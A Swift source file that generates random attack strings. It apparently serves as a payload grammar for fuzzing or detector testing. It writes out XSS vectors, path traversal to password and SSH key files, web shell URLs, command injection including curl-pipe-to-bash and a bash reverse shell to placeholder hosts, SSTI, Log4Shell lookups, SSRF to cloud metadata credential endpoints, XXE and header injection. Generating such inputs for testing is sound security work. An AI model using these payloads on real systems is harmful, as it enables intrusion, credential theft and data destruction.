// Grammars of payloads that work on pages, files, shells and templates.

import Bytes

extension Payloads {
  // MARK: Scripts

  static func script(_ out: inout ByteBuffer, _ random: inout Random) {
    one(&out, &random, "", "\">", "'>", "</title>", "</textarea>", "-->", "x\" ", "';")
    let upper = random.chance(0.15)
    switch random.below(6) {
    case 0:
      out.append(upper ? "<ScRiPt>" : "<script>")
      action(&out, &random)
      out.append(upper ? "</sCrIpT>" : "</script>")
    case 1:
      out.append("<script src=")
      one(&out, &random, "//", "http://", "https://", "data:text/javascript,")
      word(&out, &random, letters: 6)
      out.append(".example/x.js></script>")
    case 2, 3:
      out.append("<")
      one(&out, &random, "img", "svg", "body", "video", "details", "input", "iframe", "marquee", "object", "a", "math")
      one(&out, &random, " ", "/", "\n")
      if random.chance(0.5) {
        one(&out, &random, "src=x ", "open ", "autofocus ", "id=1 ", "width=1 ")
      }
      one(
        &out, &random, "onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onstart", "onanimationend",
        "onpointerenter")
      one(&out, &random, "=", " = ", "=\"", "='")
      action(&out, &random)
      out.append(">")
    case 4:
      out.append("<a href=\"")
      one(&out, &random, "javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,<script>")
      action(&out, &random)
      out.append("\">")
      word(&out, &random)
      out.append("</a>")
    default:
      out.append("'-")
      action(&out, &random)
      out.append("-'")
    }
  }

  static func action(_ out: inout ByteBuffer, _ random: inout Random) {
    one(&out, &random, "alert", "confirm", "prompt", "eval", "fetch", "top['al'+'ert']", "window.open")
    switch random.below(4) {
    case 0: out.append("(document.cookie)")
    case 1:
      out.append("(")
      number(&out, &random)
      out.append(")")
    case 2:
      out.append("`")
      number(&out, &random)
      out.append("`")
    default:
      out.append("(String.fromCharCode(")
      for i in 0..<4 {
        if i > 0 { out.append(",") }
        out.append(decimal: 97 + random.below(26))
      }
      out.append("))")
    }
  }

  // MARK: Files

  static func traversal(_ out: inout ByteBuffer, _ random: inout Random) {
    let depth = 2 + random.below(9)
    let style = random.below(9)
    if style == 7 {
      one(&out, &random, "file://", "php://filter/convert.base64-encode/resource=", "/", "zip://x.zip#")
    }
    if style < 7 {
      for _ in 0..<depth {
        switch style {
        case 0, 1, 2: out.append("../")
        case 3: out.append("..%2f")
        case 4: out.append("%2e%2e/")
        case 5: one(&out, &random, "..\\", "..%5c")
        default: one(&out, &random, "....//", "..%252f", "..%c0%af", "%c0%ae%c0%ae/")
        }
      }
    }
    if style == 8 { out.append("C:\\") }
    switch style == 8 || style == 5 ? 5 : random.below(5) {
    case 0: one(&out, &random, "etc/passwd", "etc/shadow", "etc/hosts", "etc/group")
    case 1:
      out.append("proc/self/")
      one(&out, &random, "environ", "cmdline", "fd/3", "maps")
    case 2:
      out.append("var/log/")
      one(&out, &random, "auth.log", "nginx/access.log", "apache2/error.log", "syslog")
    case 3:
      one(&out, &random, "home/", "root/", "var/www/")
      word(&out, &random)
      one(&out, &random, "/.ssh/id_rsa", "/.bash_history", "/.env", "/config.php")
    case 4:
      one(&out, &random, "WEB-INF/web.xml", "app/config/parameters.yml", "wp-config.php", "appsettings.json")
    default:
      one(
        &out, &random, "windows\\win.ini", "windows/system32/drivers/etc/hosts", "boot.ini",
        "inetpub\\wwwroot\\web.config")
    }
    if random.chance(0.12) { out.append("%00.png") }
  }

  static func shell(_ out: inout ByteBuffer, _ random: inout Random) {
    one(
      &out, &random, "/", "/uploads/", "/wp-content/uploads/", "/images/", "/wp-content/plugins/", "/tmp/", "/assets/")
    one(&out, &random, "shell", "cmd", "c99", "r57", "wso", "up", "x", "1", "alfa", "b374k", "mini")
    if random.chance(0.3) { number(&out, &random, upTo: 99) }
    one(&out, &random, ".php", ".php", ".jsp", ".aspx", ".phtml", ".php5", ".asp")
    if random.chance(0.4) {
      one(&out, &random, "?cmd=", "?c=", "?exec=", "?pass=1&a=")
      one(&out, &random, "id", "whoami", "uname%20-a", "cat%20/etc/passwd", "ls%20-la", "net%20user")
    }
  }

  static func secret(_ out: inout ByteBuffer, _ random: inout Random) {
    out.append("/")
    if random.chance(0.3) { one(&out, &random, "api/", "app/", "backend/", "old/", "dev/", "staging/", "laravel/") }
    switch random.below(5) {
    case 0:
      out.append(".env")
      if random.chance(0.5) { one(&out, &random, ".bak", ".production", ".local", ".old", ".save", "~", ".dev") }
    case 1: one(&out, &random, ".git/config", ".git/HEAD", ".git/index", ".svn/entries", ".hg/hgrc", ".git/logs/HEAD")
    case 2:
      one(
        &out, &random, ".aws/credentials", ".ssh/id_rsa", ".npmrc", ".htpasswd", ".docker/config.json", ".kube/config",
        ".DS_Store")
    case 3:
      one(&out, &random, "backup", "dump", "db", "site", "www", "database", "users", "2024", "old")
      one(&out, &random, ".sql", ".sql.gz", ".zip", ".tar.gz", ".bak", ".7z", ".rar")
    default:
      one(&out, &random, "config", "wp-config", "settings", "database", "parameters", "credentials", "secrets")
      one(&out, &random, ".php.bak", ".yml", ".json", ".php~", ".php.swp", ".ini", ".inc")
    }
  }

  static func scan(_ out: inout ByteBuffer, _ random: inout Random) {
    out.append("/")
    switch random.below(6) {
    case 0:
      one(
        &out, &random, "wp-admin", "wp-login.php", "wp-includes", "xmlrpc.php", "wp-json/wp/v2/users",
        "wp-content/plugins")
      if random.chance(0.5) {
        out.append("/")
        word(&out, &random, letters: 5)
        out.append(".php")
      }
    case 1:
      one(&out, &random, "phpmyadmin", "pma", "adminer.php", "mysql", "phpMyAdmin-5.1", "dbadmin", "sqlmanager")
      out.append("/")
      one(&out, &random, "index.php", "", "setup.php", "scripts/setup.php")
    case 2:
      one(&out, &random, "admin", "administrator", "manager", "console", "portal", "login", "cpanel", "dashboard")
      one(&out, &random, "", "/", ".php", ".asp", ".jsp", "/index.html", "/login")
    case 3:
      one(
        &out, &random, "actuator", "jenkins", "solr", "struts2-showcase", "cgi-bin", "server-status", "owa",
        "vendor/phpunit")
      out.append("/")
      one(
        &out, &random, "health", "env", "login.action", "test.cgi", "luci", "auth.owa", "src/Util/PHP/eval-stdin.php",
        "script")
    case 4:
      secret(&out, &random)
    default:
      word(&out, &random, letters: 3 + random.below(6))
      one(&out, &random, "", ".php", ".bak", ".asp", ".txt", "/", ".old", ".zip", "_old")
    }
  }

  // MARK: Shells

  static func command(_ out: inout ByteBuffer, _ random: inout Random) {
    one(&out, &random, "", "127.0.0.1", "x", "a.txt", "1")
    let wrap = random.below(8)
    one(&out, &random, ";", "|", "||", "&&", "\n", "&")
    if wrap == 0 { out.append("$(") }
    if wrap == 1 { out.append("`") }
    if random.chance(0.3) { out.append(" ") }
    let gap: StaticString = ["${IFS}", " ", " ", "\t", "$IFS$9"][random.below(5)]
    switch random.below(6) {
    case 0: one(&out, &random, "id", "whoami", "uname -a", "ifconfig", "hostname")
    case 1:
      one(&out, &random, "cat", "/bin/cat", "c'a't", "tac", "head", "ca\\t")
      out.append(gap)
      one(&out, &random, "/etc/passwd", "/etc/pa??wd", "/etc/shadow", "/proc/version", "~/.ssh/id_rsa")
    case 2:
      one(&out, &random, "wget", "curl -s", "curl -fsSL", "wget -qO-")
      out.append(gap)
      out.append("http://")
      word(&out, &random, letters: 7)
      out.append(".example/")
      word(&out, &random)
      out.append(".sh")
      one(&out, &random, "|sh", "|bash", " -o /tmp/x", "")
    case 3:
      out.append("ping -c ")
      number(&out, &random, upTo: 20)
      out.append(" 127.0.0.1")
    case 4:
      out.append("bash -i >& /dev/tcp/198.51.100.")
      number(&out, &random, upTo: 250)
      out.append("/4444 0>&1")
    default:
      one(&out, &random, "sleep", "timeout", "nslookup", "rm -rf", "ls -la", "chmod 777")
      out.append(gap)
      number(&out, &random, upTo: 20)
    }
    if wrap == 0 { out.append(")") }
    if wrap == 1 { out.append("`") }
  }

  // MARK: Templates and lookups

  static func template(_ out: inout ByteBuffer, _ random: inout Random) {
    let open: (StaticString, StaticString) = [
      ("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"), ("*{", "}"), ("{%", "%}"),
    ][random.below(6)]
    out.append(open.0)
    switch random.below(5) {
    case 0, 1:
      number(&out, &random, upTo: 99)
      out.append("*")
      number(&out, &random, upTo: 99)
    case 2:
      one(&out, &random, "''", "request", "config", "self", "cycler")
      one(
        &out, &random, ".__class__.__mro__[1].__subclasses__()", ".__init__.__globals__.os.popen('id').read()",
        "['__class__']")
    case 3:
      out.append("T(java.lang.Runtime).getRuntime().exec('")
      one(&out, &random, "id", "whoami", "calc")
      out.append("')")
    default:
      out.append("system('")
      word(&out, &random)
      out.append("')")
    }
    out.append(open.1)
  }

  static func lookup(_ out: inout ByteBuffer, _ random: inout Random) {
    out.append("${")
    let style = random.below(5)
    for letter in ["j", "n", "d", "i"] as [StaticString] {
      switch style {
      case 0: out.append(letter)
      case 1:
        one(&out, &random, "${lower:", "${upper:")
        out.append(letter)
        out.append("}")
      case 2:
        out.append("${::-")
        out.append(letter)
        out.append("}")
      case 3:
        out.append("${env:")
        word(&out, &random, letters: 3)
        out.append(":-")
        out.append(letter)
        out.append("}")
      default:
        if random.chance(0.5) {
          out.append("${sys:")
          word(&out, &random, letters: 2)
          out.append(":-")
          out.append(letter)
          out.append("}")
        } else {
          out.append(letter)
        }
      }
    }
    out.append(":")
    one(&out, &random, "ldap", "rmi", "dns", "ldaps", "${lower:l}dap", "iiop")
    out.append("://")
    word(&out, &random, letters: 8)
    one(&out, &random, ".example", ".example:1389", ".example:53")
    out.append("/")
    word(&out, &random, letters: 5)
    out.append("}")
  }

  static func forgery(_ out: inout ByteBuffer, _ random: inout Random) {
    switch random.below(4) {
    case 0:
      out.append("http://169.254.169.254/")
      one(
        &out, &random, "latest/meta-data/iam/security-credentials/", "latest/user-data", "computeMetadata/v1/",
        "metadata/instance")
    case 1:
      one(
        &out, &random, "http://127.0.0.1:", "http://localhost:", "http://[::1]:", "http://0.0.0.0:",
        "http://2130706433:")
      number(&out, &random, upTo: 9200)
      out.append("/")
      one(&out, &random, "admin", "server-status", "_cat/indices", "")
    case 2:
      one(&out, &random, "gopher://127.0.0.1:6379/_", "dict://localhost:11211/", "file:///etc/", "ftp://127.0.0.1/")
      word(&out, &random)
    default:
      out.append("http://10.0.")
      number(&out, &random, upTo: 250)
      out.append(".")
      number(&out, &random, upTo: 250)
      out.append(":8080/internal")
    }
  }

  static func entity(_ out: inout ByteBuffer, _ random: inout Random) {
    out.append("<?xml version=\"1.0\"?><!DOCTYPE ")
    word(&out, &random)
    out.append(" [<!ENTITY ")
    if random.chance(0.3) { out.append("% ") }
    word(&out, &random, letters: 3)
    one(
      &out, &random, " SYSTEM \"file:///etc/passwd\"", " SYSTEM \"http://evil.example/x.dtd\"",
      " SYSTEM \"php://filter/read=convert.base64-encode/resource=index.php\"",
      " PUBLIC \"a\" \"file:///c:/windows/win.ini\"")
    out.append(">]><a>&x;</a>")
  }

  static func header(_ out: inout ByteBuffer, _ random: inout Random) {
    one(&out, &random, "x", "/", "en", "https://www.pine-shop.example/")
    one(&out, &random, "\r\n", "\n", "\r\n\r\n", "\r")
    one(&out, &random, "Set-Cookie: ", "Location: http://", "X-Injected: ", "Content-Type: text/html\r\n\r\n<h1>")
    word(&out, &random, letters: 7)
    out.append("=1")
  }
}
